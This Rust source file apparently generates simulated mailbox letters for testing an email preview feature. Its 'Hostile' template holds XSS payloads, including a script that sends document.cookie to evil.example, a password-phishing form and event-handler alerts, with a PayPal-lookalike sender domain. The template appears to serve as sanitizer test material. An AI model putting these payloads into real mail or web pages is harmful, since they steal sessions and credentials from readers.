//! A letter in a mailbox. Some come from strangers who mean no good: whoever shows them must be careful.

use crate::devices::node::{Details, Node, Opens};
use crate::devices::office365::Account;
use crate::devices::says::ok;
use crate::seed::{Dice, person_name};
use comet_api::constants::storedobjecttype as kind;
use comet_api::types::EmailReportGeneratedPreview;
use comet_api::{List, UnixSeconds};

pub struct Letter {
    pub id: String,
    from: String,
    to: String,
    subject: String,
    received: UnixSeconds,
    bytes: i64,
    has_attachments: bool,
    style: Style,
}

/// How a letter is written.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Style {
    #[default]
    Ordinary,
    /// Without HTML.
    Plain,
    /// With pictures that tell the sender who looks.
    Newsletter,
    /// With scripts, frames, forms and styles that reach out of the letter.
    Hostile,
}

const SUBJECTS: [&str; 14] = [
    "Re: Angebot Heizung",
    "AW: AW: Termin morgen?",
    "Invoice 4711",
    "Rechnung 2025-1187",
    "Lunch?",
    "Unterlagen für die Steuerberaterin",
    "فاتورة شهر نوفمبر",
    "Your parcel <b>could not be delivered</b>",
    "🎉 Wir haben gewonnen!",
    "FWD: FWD: FWD: Witz des Tages",
    "Minutes of the meeting on Tuesday, and what we did not get to because the projector was broken again",
    "(kein Betreff)",
    "御見積書の件",
    "\"Dringend\": Passwort läuft ab",
];

const STYLES: [Style; 6] =
    [Style::Ordinary, Style::Ordinary, Style::Ordinary, Style::Plain, Style::Newsletter, Style::Hostile];

impl Letter {
    pub fn of(account: &Account, folder: &str, number: i64, received: UnixSeconds) -> Self {
        let mut dice = Dice::at(&["letter", &account.id, folder], number);
        let style = dice.pick(&STYLES);
        let (name, address) = person_name(&mut dice);
        let domain = if style == Style::Hostile { "paypa1-security.example" } else { "partner.example" };
        let stranger = format!("{name} <{address}@{domain}>");
        let own = format!("{} <{}>", account.name, account.mail);
        let is_sent = matches!(folder, "Sent Items" | "Drafts");
        Self {
            id: format!("AAMk{}", dice.hex(1)),
            from: if is_sent { own.clone() } else { stranger.clone() },
            to: if is_sent { stranger } else { own },
            subject: dice.pick(&SUBJECTS).to_owned(),
            received,
            bytes: dice.between(2_000, 400_000),
            has_attachments: dice.chance(220),
            style,
        }
    }

    pub fn node(self) -> Node {
        let details = Details::Message {
            from: self.from,
            to: self.to,
            received: self.received,
            has_attachments: self.has_attachments,
        };
        Node::new(self.id, kind::EMAILMESSAGE, Opens::No)
            .labelled(self.subject)
            .sized(self.bytes)
            .at(self.received)
            .with(details)
    }

    pub fn preview(&self) -> EmailReportGeneratedPreview {
        let mut preview: EmailReportGeneratedPreview = ok();
        preview.set_from(self.from.as_str());
        preview.set_to(List(vec![self.to.clone()]));
        preview.set_email_subject(self.subject.as_str());
        preview.set_email_body_html(self.html());
        preview.set_email_body_plaintext(self.plain());
        preview
    }

    fn plain(&self) -> String {
        format!("Hello,\r\n\r\nabout \"{}\": see below.\r\n\r\n> Kind regards\r\n> {}\r\n", self.subject, self.from)
    }

    fn html(&self) -> String {
        let subject = escape(&self.subject);
        match self.style {
            Style::Plain => String::new(),
            Style::Ordinary => format!(
                "<html><body><p>Hello,</p><p>about <b>{subject}</b>: see below.</p>\
                 <table border=\"1\"><tr><td>Position</td><td>1.234,56&nbsp;€</td></tr></table>\
                 <blockquote>Kind regards<br>{}</blockquote></body></html>",
                escape(&self.from)
            ),
            Style::Newsletter => NEWSLETTER.replace("{subject}", &subject),
            Style::Hostile => HOSTILE.replace("{subject}", &subject),
        }
    }
}

/// Pictures from elsewhere, one of them a single dot; links that go where they don't say.
const NEWSLETTER: &str = r#"<html><head><style>body{margin:0;background:#123;color:#fff;font-family:Papyrus}
.wide{width:1800px}@import url("https://fonts.tracker.example/f.css");</style></head><body>
<div class="wide"><img src="https://images.tracker.example/banner.png?who=42" width="1800" height="300" alt="">
<h1>{subject}</h1><p><a href="https://tracker.example/click?to=https%3A%2F%2Fshop.example">https://shop.example</a></p>
<img src="https://tracker.example/open.gif" width="1" height="1" alt=""></div></body></html>"#;

/// All that a reader of mail must not let through.
const HOSTILE: &str = r#"<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>document.title='pwned';parent.postMessage('pwned','*');fetch('https://evil.example/?c='+document.cookie)</script>
<link rel="stylesheet" href="https://evil.example/x.css"><style>*{position:fixed;inset:0;z-index:2147483647}</style></head>
<body onload="alert('pwned')"><h1>{subject}</h1><img src="x" onerror="alert('pwned')"><svg onload="alert('pwned')"></svg>
<a href="javascript:alert('pwned')">Your account</a><a href="//evil.example" target="_top">here</a>
<form action="https://evil.example/login" method="post"><input name="password" type="password"><button>Sign in</button></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
<div style="background:url(https://evil.example/pixel)">Act now</div><template><script>alert(2)</script></template></body></html>"#;

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}
